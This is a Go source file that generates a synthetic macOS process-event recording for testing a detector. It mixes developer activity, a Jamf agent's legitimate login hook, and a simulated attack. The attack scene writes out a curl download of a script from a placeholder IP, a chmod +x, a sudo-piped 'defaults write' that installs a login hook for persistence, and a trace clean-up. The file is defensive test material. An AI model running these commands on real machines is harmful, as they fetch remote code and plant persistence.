package synthetic

import (
	"io"
	"math/rand/v2"
	"time"
)

// DemoHook is the program that the attack of the demo installs.
const DemoHook = "/Users/Shared/.update.sh"

// JamfHook is the program of the management agent's own hook.
const JamfHook = "/Library/Application Support/JAMF/ManagementFrameworkScripts/loginhook.sh"

// WriteDemo writes a recording of some sixty lines and about ten seconds: a user at
// work, an attack that installs a login hook, a management agent that sets its own,
// and the attacker's clean-up. The first and the last should raise an alert.
func WriteDemo(w io.Writer) error {
	h := New(w, Options{Seed: 7, Pace: 2 * time.Millisecond})
	d := demo{h, rand.New(rand.NewPCG(7, 4))}
	for _, scene := range []func(){
		d.work, d.attack, func() { jobs[0](h, d.rng) }, d.management, d.work, d.cleanUp,
	} {
		scene()
		h.Advance(1200 * time.Millisecond)
	}
	return h.Err()
}

type demo struct {
	*Host
	rng *rand.Rand
}

// work is what a developer types.
func (d demo) work() {
	d.Run(d.Shell(), command(d.rng))
	d.Advance(400 * time.Millisecond)
	d.Run(d.Shell(), choose(d.rng, mentions[:2]))
}

// attack is how published tools install a login hook: fetch, make executable, set.
func (d demo) attack() {
	shell := d.Shell()
	d.Run(shell, Spec{Path: "/usr/bin/curl", Args: []string{"curl", "-fsSL", "-o", DemoHook, "http://198.51.100.7/update.sh"}})
	d.Advance(300 * time.Millisecond)
	d.Run(shell, Spec{Path: "/bin/chmod", Args: []string{"chmod", "+x", DemoHook}})
	d.Advance(300 * time.Millisecond)

	set := []string{"defaults", "write", "com.apple.loginwindow", "LoginHook", DemoHook}
	sh := d.Sh(shell, "echo hunter2 | sudo -S defaults write com.apple.loginwindow LoginHook "+DemoHook)
	echo := d.Fork(sh) // echo is the shell's own: no exec
	p := d.Sudo(sh, Spec{Path: "/usr/bin/defaults", Args: set}, "-S")
	d.Exit(echo, 0)
	d.EndSudo(p)
	d.Exit(sh, 0)
}

// management sets the hook that a Jamf exception knows.
func (d demo) management() {
	jamf := d.Daemon("com.jamf.management.daemon", AsRoot, Spec{
		Path: "/usr/local/jamf/bin/jamf", SigningID: "com.jamf.management.binary", TeamID: "483DWKW443",
		Args: []string{"/usr/local/jamf/bin/jamf", "manage"},
	})
	d.Run(jamf, Spec{
		Path: "/usr/bin/defaults",
		Args: []string{"/usr/bin/defaults", "write", "/var/root/Library/Preferences/com.apple.loginwindow", "LoginHook", JamfHook},
	})
	d.Exit(jamf, 0)
}

// cleanUp removes the traces.
func (d demo) cleanUp() {
	shell := d.Shell()
	d.EndSudo(d.Sudo(shell, Spec{
		Path: "/usr/bin/defaults",
		Args: []string{"defaults", "delete", "com.apple.loginwindow", "LoginHook"},
	}))
	d.Run(shell, Spec{Path: "/bin/rm", Args: []string{"rm", "-f", DemoHook}})
}
